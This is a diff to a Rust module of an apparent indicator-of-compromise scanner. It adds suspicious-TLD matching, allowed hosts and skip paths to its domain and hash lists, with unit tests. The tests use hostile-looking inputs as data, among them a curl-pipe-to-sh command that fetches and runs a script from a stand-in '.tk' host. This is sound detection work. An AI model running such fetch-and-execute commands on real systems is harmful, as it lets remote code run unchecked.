@@ -2,17 +2,20 @@
 //! (`signatures/ioc/*.txt`, plus the analyst's `--ioc FILE`). Names are matched literally (one
 //! Aho-Corasick pass, case-insensitive) in every blob and config field, at name boundaries (a
 //! subdomain of a listed domain matches, a longer name does not); hashes are matched against
-//! every file version's sha256.
+//! every file version's sha256. A line `.tld` lists a top-level domain: it matches the host of
+//! a URL (`scheme://name.tld`) ending in it, reported with the whole host.
 
 use std::collections::HashMap;
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
 
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use regex::bytes::Regex;
 
 pub const BUILTIN: &[(&str, &str)] = &[
     ("mining_pools.txt", include_str!("../../signatures/ioc/mining_pools.txt")),
     ("malicious.txt", include_str!("../../signatures/ioc/malicious.txt")),
+    ("suspicious_tlds.txt", include_str!("../../signatures/ioc/suspicious_tlds.txt")),
 ];
 pub const NAMESPACE: &str = "ioc";
 
@@ -39,6 +42,11 @@ pub struct IocList {
     pub origin: String,
     examples: Vec<String>,
     negative_examples: Vec<String>,
+    /// `# skip-paths:` a list's hits in a file whose path matches are dropped (documentation
+    /// names legitimate sites on abused TLDs).
+    skip_paths: Option<Regex>,
+    /// `# allow:` hosts (and their subdomains) a TLD entry never reports.
+    allowed_hosts: Vec<String>,
 }
 
 /// One indicator found in one blob.
@@ -54,7 +62,7 @@ pub struct IocHit {
 pub struct IocSet {
     lists: Vec<Arc<IocList>>,
     names: Option<AhoCorasick>,
-    /// (list, indicator) of each name pattern.
+    /// (list, indicator) of each name pattern; an indicator starting with `.` is a TLD.
     name_owners: Vec<(usize, String)>,
     hashes: HashMap<[u8; 32], (usize, String)>,
     pub sources: Vec<String>,
@@ -119,7 +127,8 @@ impl IocSet {
     pub fn check_examples(&self) -> Vec<String> {
         let mut failures = Vec::new();
         for (index, list) in self.lists.iter().enumerate() {
-            let hits_list = |text: &str| self.scan(text.as_bytes()).iter().any(|hit| Arc::ptr_eq(&hit.list, &self.lists[index]));
+            let hits_list =
+                |text: &str| self.scan(text.as_bytes(), "/example").iter().any(|hit| Arc::ptr_eq(&hit.list, &self.lists[index]));
             for example in &list.examples {
                 if !hits_list(example) {
                     failures.push(format!("{}: no indicator found in example {example:?}", list.origin));
@@ -134,21 +143,38 @@ impl IocSet {
         failures
     }
 
-    /// Listed names (domains, IPs, URLs) in one blob, at name boundaries.
-    pub fn scan(&self, bytes: &[u8]) -> Vec<IocHit> {
+    /// Listed names (domains, IPs, URLs) in one blob at `path`, at name boundaries.
+    pub fn scan(&self, bytes: &[u8], path: &str) -> Vec<IocHit> {
         let Some(names) = &self.names else { return Vec::new() };
         let mut hits = Vec::new();
         for found in names.find_overlapping_iter(bytes) {
-            if !at_name_boundary(bytes, found.start(), found.end()) {
+            let (list, indicator) = &self.name_owners[found.pattern().as_usize()];
+            // A TLD's own start is inside its host: the host is checked instead.
+            let is_tld = indicator.starts_with('.');
+            if !at_name_boundary(bytes, if is_tld { 0 } else { found.start() }, found.end()) {
                 continue;
             }
-            let (list, indicator) = &self.name_owners[found.pattern().as_usize()];
-            let from = found.start().saturating_sub(CONTEXT_BYTES);
+            let owner = &self.lists[*list];
+            if owner.skip_paths.as_ref().is_some_and(|skip| skip.is_match(path.as_bytes())) {
+                continue;
+            }
+            let (start, indicator) = if is_tld {
+                let Some(host_start) = url_host_ending_at(bytes, found.start()) else { continue };
+                let host = String::from_utf8_lossy(&bytes[host_start..found.end()]).to_ascii_lowercase();
+                let allowed = |known: &String| host == *known || host.ends_with(&format!(".{known}"));
+                if owner.allowed_hosts.iter().any(allowed) {
+                    continue;
+                }
+                (host_start, host)
+            } else {
+                (found.start(), indicator.clone())
+            };
+            let from = start.saturating_sub(CONTEXT_BYTES);
             let to = (found.end() + CONTEXT_BYTES).min(bytes.len());
             hits.push(IocHit {
-                list: self.lists[*list].clone(),
-                indicator: indicator.clone(),
-                offset: found.start() as u64,
+                list: owner.clone(),
+                indicator,
+                offset: start as u64,
                 context: crate::pathbytes::display_bytes(&bytes[from..to]),
             });
             if hits.len() >= MAX_HITS_PER_BLOB {
@@ -178,6 +204,27 @@ fn at_name_boundary(bytes: &[u8], start: usize, end: usize) -> bool {
     before_ok && after_ok
 }
 
+/// Where the host of a URL starts, if the `.tld` found at `tld_start` ends one: a label right
+/// before it, and only host bytes back to `://` (or a URL's `user@`). `window.top` and
+/// `archive.zip` in a URL's path are no hosts.
+fn url_host_ending_at(bytes: &[u8], tld_start: usize) -> Option<usize> {
+    /// Longest host name (RFC 1035).
+    const MAX_HOST: usize = 253;
+    let host_byte = |b: u8| b.is_ascii_alphanumeric() || b == b'-' || b == b'.';
+    let mut start = tld_start;
+    while start > 0 && tld_start - start < MAX_HOST && host_byte(bytes[start - 1]) {
+        start -= 1;
+    }
+    let label = &bytes[start..tld_start];
+    if label.is_empty() || label.ends_with(b".") || label.starts_with(b".") {
+        return None;
+    }
+    let before = &bytes[..start];
+    let after_scheme = before.ends_with(b"://");
+    let after_user = before.ends_with(b"@") && before[..before.len() - 1].windows(3).rev().take(128).any(|w| w == b"://");
+    (after_scheme || after_user).then_some(start)
+}
+
 fn sha256_indicator(indicator: &str) -> Option<[u8; 32]> {
     let hex = indicator.strip_prefix("sha256:").unwrap_or(indicator);
     let mut out = [0u8; 32];
@@ -195,6 +242,8 @@ fn parse_list(origin: &str, text: &str, mut indicator: impl FnMut(&str)) -> Resu
         origin: origin.to_string(),
         examples: Vec::new(),
         negative_examples: Vec::new(),
+        skip_paths: None,
+        allowed_hosts: Vec::new(),
     };
     for (number, line) in text.lines().enumerate() {
         let line = line.trim();
@@ -214,6 +263,14 @@ fn parse_list(origin: &str, text: &str, mut indicator: impl FnMut(&str)) -> Resu
                 "description" => list.description = value,
                 "example" => list.examples.push(value),
                 "negative" => list.negative_examples.push(value),
+                "allow" => list.allowed_hosts.extend(value.split_whitespace().map(str::to_ascii_lowercase)),
+                "skip-paths" => {
+                    let skip = Regex::new(&value).map_err(|err| IocError::Invalid {
+                        origin: format!("{origin}:{}", number + 1),
+                        message: format!("skip-paths: {err}"),
+                    })?;
+                    list.skip_paths = Some(skip);
+                }
                 _ => {}
             }
             continue;
@@ -221,10 +278,11 @@ fn parse_list(origin: &str, text: &str, mut indicator: impl FnMut(&str)) -> Resu
         if line.is_empty() {
             continue;
         }
-        if line.len() < 4 || line.contains(char::is_whitespace) {
+        let tld = line.strip_prefix('.').is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphanumeric()));
+        if (line.len() < 4 && !tld) || line.contains(char::is_whitespace) {
             return Err(IocError::Invalid {
                 origin: format!("{origin}:{}", number + 1),
-                message: format!("{line:?} is not a domain, IP address, URL or sha256 (one per line)"),
+                message: format!("{line:?} is not a domain, IP address, URL, .tld or sha256 (one per line)"),
             });
         }
         indicator(line);
@@ -251,6 +309,25 @@ mod tests {
         assert!(!at_name_boundary(text, s, e - 5));
         let end = text.len() - 1;
         assert!(at_name_boundary(text, end - "supportxmr.com".len(), end), "at the end of a sentence");
+    }
+
+    #[test]
+    fn a_tld_matches_only_the_end_of_a_url_host() {
+        let set = IocSet::compile(&[], true).unwrap();
+        let hosts = |text: &str| -> Vec<String> {
+            set.scan(text.as_bytes(), "/entrypoint.sh")
+                .into_iter()
+                .filter(|hit| hit.list.name == "suspicious-tld")
+                .map(|hit| hit.indicator)
+                .collect()
+        };
+        assert_eq!(hosts("curl -fsSL https://Cdn.Update-Check.TK/x.sh | sh"), ["cdn.update-check.tk"]);
+        assert_eq!(hosts("wget ftp://u:p@files.example.top:21/a"), ["files.example.top"]);
+        assert_eq!(hosts("if (window.top !== window.self) {} https://github.com/a/b/archive/main.zip"), Vec::<String>::new());
+        assert_eq!(hosts("see https://example.tkx/ and https://.tk/"), Vec::<String>::new());
+        assert_eq!(hosts("Tcl lives at https://www.tcl.tk/ and https://core.tcl.tk/"), Vec::<String>::new(), "allowed hosts");
+        let in_docs = set.scan(b"https://cdn.update-check.tk/x.sh", "/usr/share/doc/pkg/README");
+        assert!(in_docs.iter().all(|hit| hit.list.name != "suspicious-tld"), "documentation is skipped");
     }
 
     #[test]
